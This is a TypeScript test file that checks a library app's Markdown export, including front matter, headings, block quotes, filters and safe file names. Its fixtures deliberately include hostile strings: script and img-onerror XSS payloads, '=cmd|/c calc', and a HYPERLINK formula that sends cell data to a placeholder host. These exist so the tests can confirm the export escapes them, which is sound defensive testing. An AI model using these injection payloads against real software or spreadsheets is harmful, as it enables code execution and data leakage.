import MarkdownIt from 'markdown-it'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { exportLibrary } from '../../../src/core/export/exportLibrary'
import { ExportJob } from '../../../src/core/export/ExportJob'
import type { ExportedFile, ExportRequest } from '../../../src/shared/exporting'
import type { FilledLibrary } from './filledLibrary'
import { filledLibrary, hostileText } from './filledLibrary'

let filled: FilledLibrary
/** CommonMark as the spec has it: raw HTML passes through, so any that leaks shows. */
const commonmark = new MarkdownIt('commonmark')

beforeAll(async () => {
  filled = await filledLibrary()
})
afterAll(() => filled.cleanup())

async function files(request: ExportRequest): Promise<ExportedFile[]> {
  return (await exportLibrary(filled.library, request, new ExportJob())).files
}

function split(markdown: string): { front: Record<string, unknown>; body: string } {
  const match = /^---\n([\s\S]*?)\n---\n/.exec(markdown)
  if (!match) throw new Error('no front matter')
  return {
    front: parse(match[1]!) as Record<string, unknown>,
    body: markdown.slice(match[0].length)
  }
}

/** The document as CommonMark reads it: its block structure, and each heading's text. */
function structure(body: string): { blocks: string[]; headings: string[]; quotes: string[] } {
  const tokens = commonmark.parse(body, {})
  const blocks = tokens.filter((t) => t.nesting === 1 || t.type === 'fence').map((t) => t.type)
  // The text a reader sees: the inline token's children, escapes resolved.
  const textOf = (inline: (typeof tokens)[number]): string =>
    inline.children!.map((c) => (c.type === 'hardbreak' ? '\n' : c.content)).join('')
  const inlineAfter = (type: string): string[] =>
    tokens.flatMap((t, i) => (t.type === type ? [textOf(tokens[i + 1]!)] : []))
  const quotes = tokens.flatMap((t, i) => {
    if (t.type !== 'blockquote_open') return []
    const paragraphs: string[] = []
    for (let j = i + 1; tokens[j]!.type !== 'blockquote_close'; j++)
      if (tokens[j]!.type === 'inline') paragraphs.push(textOf(tokens[j]!))
    return [paragraphs.join('\n\n')]
  })
  return { blocks, headings: inlineAfter('heading_open'), quotes }
}

describe('the Markdown export', () => {
  it('renders as CommonMark with no HTML, script, image or javascript: link coming through', async () => {
    const [file] = await files({ format: 'md' })
    const html = commonmark.render(split(file!.content).body)
    expect(html).not.toMatch(/<script|<img|<a href="javascript|<i>|<b>/i)
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    const links = [...html.matchAll(/<a href="([^"]*)"/g)].map((m) => m[1])
    expect(links).toEqual([
      'https://example.org/a?b=1&amp;c=2',
      'https://example.org/a?b=1&amp;c=2'
    ])
  })

  it('keeps the structure: headings, block quotes of the exact passages, claim fields as lists', async () => {
    const [file] = await files({ format: 'md', articleIds: [filled.hostile.id] })
    const { blocks, headings, quotes } = structure(split(file!.content).body)
    expect(headings).toEqual([
      '<script>alert(1)</script> =cmd|/c calc',
      'Highlights and claims',
      'Highlight · Dispute',
      'Claim · ?? · refuted'
    ])
    // The hostile text's "- not a list" and "# not a heading" stay inside their quote.
    expect(blocks.filter((b) => b === 'heading_open')).toHaveLength(4)
    expect(quotes).toEqual(['<script>alert("x")</script>', '=HYPERLINK("http://x/?"&A1, "win")'])
    expect(blocks).toContain('bullet_list_open')
    const html = commonmark.render(split(file!.content).body)
    expect(html).toContain('<strong>Tags:</strong> =evil, a,b')
  })

  it('block-quotes a passage whose text looks like Markdown exactly as it reads', async () => {
    const markdownish = hostileText.slice(hostileText.indexOf('[click'))
    const { quoteBlock, document } = await import('../../../src/core/export/markdownNodes')
    const { toMarkdown } = await import('../../../src/core/export/markdownSerializer')
    const { quotes, blocks } = structure(toMarkdown(document([quoteBlock(markdownish)])))
    expect(quotes).toEqual([markdownish.trimEnd()])
    expect(blocks).toEqual(['blockquote_open', 'paragraph_open'])
  })

  it('writes text that starts like a quote or a list, or ends like a closing #, as it reads', async () => {
    const { document, heading, paragraph, inline, quoteBlock } =
      await import('../../../src/core/export/markdownNodes')
    const { noteSchema } = await import('../../../src/core/export/noteSchema')
    const { toMarkdown } = await import('../../../src/core/export/markdownSerializer')
    const hardBreak = noteSchema.nodes.hardBreak!.create()
    const markdown = toMarkdown(
      document([
        heading(2, 'Issue #'),
        paragraph(inline('> not a quote')),
        paragraph(inline('1) not a list')),
        paragraph([...inline('first line'), hardBreak, ...inline('2) nor this')]),
        paragraph([...inline('first line'), hardBreak, ...inline('> nor this')]),
        quoteBlock('> quoted\n3) line'),
        paragraph(inline('  > indented, still no quote')),
        noteSchema.nodes.passageQuote!.create({ exact: '> reply\n- item', title: 'Wire' })
      ])
    )
    const tokens = commonmark.parse(markdown, {})
    expect(tokens.filter((t) => t.type.endsWith('_open')).map((t) => t.type)).toEqual([
      'heading_open',
      'paragraph_open',
      'paragraph_open',
      'paragraph_open',
      'paragraph_open',
      'blockquote_open',
      'paragraph_open',
      'paragraph_open',
      'blockquote_open',
      'paragraph_open'
    ])
    const texts = tokens
      .filter((t) => t.type === 'inline')
      .map((t) =>
        t
          .children!.map((c) =>
            c.type === 'softbreak' || c.type === 'hardbreak' ? '\n' : c.content
          )
          .join('')
      )
    expect(texts.slice(0, 5)).toEqual([
      'Issue #',
      '> not a quote',
      '1) not a list',
      'first line\n2) nor this',
      'first line\n> nor this'
    ])
    expect(texts[5]).toBe('> quoted\n3) line')
    expect(texts[6]).toBe('> indented, still no quote')
    expect(texts[7]).toBe('> reply\n- item\n— Wire')
  })

  it('has front matter with the metadata and evidence, and notes converted to Markdown', async () => {
    const [file] = await files({ format: 'md', articleIds: [filled.astral.id] })
    expect(file!.fileName).toBe('🚢 Harbour report.md')
    const { front, body } = split(file!.content)
    expect(front).toMatchObject({
      title: '🚢 Harbour report',
      id: filled.astral.id,
      source: 'Wire <i>service</i>',
      url: 'https://example.org/harbour',
      tags: ['strike', 'figures'],
      evidence: {
        textSha256: filled.astral.textSha256,
        originalSha256: filled.astral.origin.byteSha256,
        encoding: 'utf-8'
      }
    })
    const { headings, quotes } = structure(body)
    expect(headings).toEqual([
      '🚢 Harbour report',
      'Notes',
      'Check <b>this</b>',
      'Highlights and claims',
      'Highlight · Place <b>',
      'Check <b>this</b>',
      'Claim · B3 · disputed',
      'Claim · D2 · checking'
    ])
    expect(quotes).toContain('roughly 2,400 workers walked out 👷🏽')
    expect(quotes).toContain('A forwarder repeated\n— Freight forwarders count the cost')
    const html = commonmark.render(body)
    expect(html).toContain(
      '<li><strong>Grade:</strong> B3 (source reliability B, credibility 3)</li>'
    )
    expect(html).toContain('<li><strong>Claimant:</strong> Ilse Marrow (person)</li>')
    expect(html).toContain(
      '<li><strong>Link:</strong> “the union figure of 2,400 workers” (Freight forwarders count the cost) repeats this</li>'
    )
    expect(html).toContain('<strong>Bold</strong>')
    expect(html).toContain('<pre><code>const x = &quot;&lt;script&gt;&quot;\n</code></pre>')
  })

  it('writes each article and notebook as its own file with split, names made safe', async () => {
    const all = await files({ format: 'md', split: true })
    expect(all.map((f) => f.fileName)).toEqual([
      '🚢 Harbour report.md',
      'script alert(1) script =cmd c calc.md',
      'Freight forwarders count the cost.md',
      'Strike write-up 🚢 & draft.md'
    ])
    const notebook = split(all[3]!.content)
    expect(notebook.front).toMatchObject({ title: 'Strike write-up: 🚢 & <draft>' })
    const { quotes } = structure(notebook.body)
    // The quoted passage names its article by its title now, not the one it had.
    expect(quotes).toEqual([
      'roughly 2,400 workers walked out 👷🏽\n— 🚢 Harbour report',
      'A forwarder repeated\n— Freight forwarders count the cost'
    ])
  })

  it('exports one notebook as one file', async () => {
    const [notebook] = filled.library.listNotebooks()
    const only = await files({ format: 'md', notebookId: notebook!.id })
    expect(only.map((f) => f.fileName)).toEqual(['Strike write-up 🚢 & draft.md'])
  })

  it('keeps only what the filters ask for', async () => {
    const [disputed] = await files({ format: 'md', status: 'disputed' })
    expect(structure(split(disputed!.content).body).headings).toEqual([
      '🚢 Harbour report',
      'Highlights and claims',
      'Claim · B3 · disputed'
    ])
    const [highlights] = await files({ format: 'md', kind: 'highlight' })
    const headings = structure(split(highlights!.content).body).headings
    expect(headings.filter((h) => h.startsWith('Claim'))).toEqual([])
    expect(headings.filter((h) => h.startsWith('Highlight ·'))).toHaveLength(2)
    const [tagged] = await files({ format: 'md', tag: '=evil' })
    expect(structure(split(tagged!.content).body).headings).toEqual([
      '<script>alert(1)</script> =cmd|/c calc',
      'Highlights and claims',
      'Claim · ?? · refuted'
    ])
  })
})
